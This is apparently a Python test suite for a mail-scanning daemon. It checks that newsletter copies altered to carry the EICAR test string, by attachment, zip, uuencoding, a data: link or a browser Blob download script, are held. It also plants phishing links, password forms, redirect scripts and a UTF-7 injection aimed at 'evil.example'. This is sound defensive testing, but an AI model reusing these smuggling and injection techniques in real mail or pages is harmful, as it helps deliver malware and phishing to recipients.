"""Copies of one campaign: found and stopped by what they share, and nothing that differs in one of them is overlooked."""
import base64
import json
import re
import unittest
import urllib.request

import demo_mail
from tocsin_system import Daemon, SmtpSink

TEXT = ("thank you for being a customer of our little garden shop. This week all spring bulbs are cheaper, and whoever orders "
        "before Friday gets a bag of good earth without paying for it. Come by on Saturday, there will be coffee and cake for "
        "everybody, and our gardener answers every question about roses, lawns and vegetables that you would like to grow. ")
COPIES = 40

# A whole PDF, in three objects: what is damaged is never clean.
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n"
       b"0000000054 00000 n \n0000000105 00000 n \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n168\n%%EOF\n")


def copy(number, html_more="", text_more="", attachment=PDF, header_more="", page=""):
    """The same newsletter for another reader; the keywords are what an attacker changes in one copy."""
    to = f"reader{number}@example.net"
    encoded = base64.encodebytes(attachment).decode()
    return to, demo_mail._crlf(f"""From: Garden shop <news@garden.example.org>
To: Reader {number} <{to}>
Subject: Spring, reader {number}
Date: Mon, 02 Mar 2026 09:00:10 +0000
Message-ID: <{number}@garden.example.org>
{header_more}MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_m"

--=_m
Content-Type: multipart/alternative; boundary="=_a"

--=_a
Content-Type: text/plain; charset=utf-8

Dear reader {number}, {TEXT}{text_more}
--=_a
Content-Type: text/html; charset=utf-8

<html><body><p>Dear reader {number}, {TEXT}</p>{page}<a href="https://garden.example.org/u?{number}">leave</a>{html_more}</body></html>
--=_a--
--=_m
Content-Type: application/pdf; name="prices.pdf"
Content-Disposition: attachment; filename="prices.pdf"
Content-Transfer-Encoding: base64

{encoded}
--=_m--
""")


class Campaign(unittest.TestCase):
    page = ""

    def setUp(self):
        self.sink = SmtpSink()
        self.addCleanup(self.sink.stop)
        self.daemon = Daemon(self.sink)
        self.daemon.__enter__()
        self.addCleanup(lambda: self.daemon.__exit__(None, None, None))

    def send(self, number, **changed):
        to, content = copy(number, page=self.page, **changed)
        return self.daemon.send("outbound", "news@garden.example.org", [to], content)

    def warm_up(self):
        """So many copies that everything which can be remembered is."""
        for number in range(COPIES):
            self.assertEqual(self.send(number)[0], 250)
        self.assertEqual(len(self.sink.delivered), COPIES)

    def test_what_differs_in_one_copy_is_always_looked_at(self):
        self.warm_up()
        eicar = demo_mail.EICAR
        packed = demo_mail.zip_of("prices.com", eicar)
        attacks = {
            "attachment": {"attachment": eicar},
            "attachment in an archive": {"attachment": packed},
            "behind the same beginning": {"attachment": PDF + packed},
            "text": {"text_more": "\n" + eicar.decode()},
            "data link": {"html_more": '<a href="data:application/zip;base64,' + base64.b64encode(packed).decode() + '">x</a>'},
            "uuencoded": {"text_more": "\nbegin 644 a.com\n" + uuencoded(eicar) + "`\nend\n"},
        }
        delivered = len(self.sink.delivered)
        for number, (name, changed) in enumerate(attacks.items(), COPIES):
            with self.subTest(attack=name):
                code, text = self.send(number, **changed)
                self.assertTrue(code >= 500 or "held" in text, (code, text))
                self.assertEqual(len(self.sink.delivered), delivered)
        # A page that puts a file together in the browser is suspicious, in whatever copy.
        self.send(98, html_more="<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob('" +
                  base64.b64encode(packed * 4).decode() + "')]));a.download='x.zip';a.click()</script>")
        self.assertEqual(self.daemon.command("journal", "list", "--json")["records"][0]["verdict"], "suspicious")
        code, text = self.send(99)
        self.assertEqual((code, "held" in text), (250, False), "the campaign itself still goes out")

    def test_a_long_campaign_is_compared_and_nothing_is_smuggled_in_a_copy(self):
        """A page of 8 kB, so that copies are compared to one that was scanned whole (docs/design/campaigns.md)."""
        self.page = "".join(f"<p>{TEXT}</p><p>Number {number}</p>\n" for number in range(20))
        self.warm_up()
        seen = self.explained(COPIES)
        self.assertTrue(compared(seen), seen["parts"])
        eicar = demo_mail.EICAR.decode()
        # The name of the first copies completes nothing; in these it does, or brings what a name never has.
        attacks = {
            "a link": '<a href="https://evil.example/">x</a>', "a form": '<form action="https://evil.example/"><input type=password></form>',
            "a script": "<script>document.location='https://evil.example/'</script>", "the test string": eicar,
            "behind a comment": "<!--> -->" + eicar, "in an attribute": f'<p title="{eicar}">x</p>',
            "a charset": '<meta charset="utf-7">+ADw-script+AD4-'}
        for number, (name, html) in enumerate(attacks.items(), COPIES + 1):
            with self.subTest(attack=name):
                seen = self.explained(number, html_more=html)
                self.assertFalse(compared(seen), name)
                self.assertEqual(seen["verdict"] == "malware", eicar in html, seen)
        self.assertEqual(self.send(99)[0], 250)

    def test_a_name_that_completes_a_signature_is_found(self):
        before, behind = demo_mail.EICAR.decode().split("ANTIVIRUS")
        self.page = "".join(f"<p>{TEXT}</p><p>Number {number}</p>\n" for number in range(20))
        for number in range(COPIES):
            self.assertEqual(self.send(number, html_more=f"<p>{before}SOMETHING{behind}</p>")[0], 250)
        code, text = self.send(50, html_more=f"<p>{before}ANTIVIRUS{behind}</p>")
        self.assertTrue(code >= 500 or "held" in text, (code, text))

    def explained(self, number, **changed):
        """The whole verdict about one copy."""
        _, content = copy(number, page=self.page, **changed)
        request = urllib.request.Request(f"http://127.0.0.1:{self.daemon.ports['check']}/v1/scan", data=content, method="POST")
        with urllib.request.urlopen(request, timeout=60) as answer:
            return json.load(answer)

    def test_orders_see_a_link_that_differs(self):
        self.warm_up()
        self.daemon.command("order", "hold", "login.evil.example", "--kind", "link_domain")
        self.daemon.command("order", "hold", "garden.example.org/steal", "--kind", "url")
        for number, page in enumerate(['<a href="https://login.evil.example/x">here</a>', '<form action="//login.evil.example/p">',
                                       '<form><button formaction="https://login.evil.example/p">go</button></form>',
                                       '<a href="https://garden.example.org/steal?u=1">here</a>'], COPIES):
            code, text = self.send(number, html_more=page)
            self.assertIn("held", text, page)
        self.assertNotIn("held", self.send(50)[1])

    def test_a_campaign_is_found_and_stopped_by_its_text(self):
        for number in range(3):
            self.assertEqual(self.send(number)[0], 250)
        other = demo_mail.newsletter("news@garden.example.org", "reader@example.com")
        self.assertEqual(self.daemon.send("outbound", "news@garden.example.org", ["reader@example.com"], other)[0], 250)
        records = self.daemon.command("journal", "list", "--json")["records"]
        newest = records[1]["id"]
        same = self.daemon.command("journal", "list", "--campaign", newest, "--json")["records"]
        self.assertEqual([record["subject"] for record in same], ["Spring, reader 2", "Spring, reader 1", "Spring, reader 0"])
        answer = self.daemon.command("order", "hold", newest, "--kind", "similar", "--reason", "hijacked")
        self.assertIn("is in force", answer)
        self.assertIn("held", self.send(7)[1])
        self.assertNotIn("held", self.daemon.send("outbound", "a@garden.example.org", ["b@example.com"], other)[1])

    def test_an_order_for_an_unknown_customer_warns(self):
        self.assertIn("WARNING: no customer", self.daemon.command("order", "hold", "Shop Ltd", "--kind", "customer"))
        self.assertNotIn("WARNING", self.daemon.command("order", "hold", "(unknown)", "--kind", "customer"))

    def test_a_blocked_sender_costs_no_reader(self):
        self.daemon.command("order", "block", "news@garden.example.org")
        scans = self.daemon.command("status", "--json")["scans"]
        self.assertEqual(self.send(1)[0], 550)
        self.assertEqual(self.daemon.command("status", "--json")["scans"], scans)
        record = self.daemon.command("journal", "list", "--json")["records"][0]
        self.assertEqual((record["outcome"], record["disposition"]), ("not_scanned", "reject"))
        with urllib.request.urlopen(f"http://127.0.0.1:{self.daemon.ports['api']}/metrics", timeout=30) as page:
            sums = re.findall(r"^tocsin_judge_seconds_sum(?:\{.*\})? (\S+)$", page.read().decode(), re.MULTILINE)
        self.assertTrue(sums and sum(map(float, sums)) < 60, f"judging took {sums} s")


def compared(seen):
    """The pages of which only the differences were shown to the signatures."""
    return [part for part in seen["parts"] if part["media_type"] == "text/html" and part.get("remembered")]


def uuencoded(data):
    import binascii
    return "".join(binascii.b2a_uu(data[at:at + 45]).decode() for at in range(0, len(data), 45))


if __name__ == "__main__":
    unittest.main()
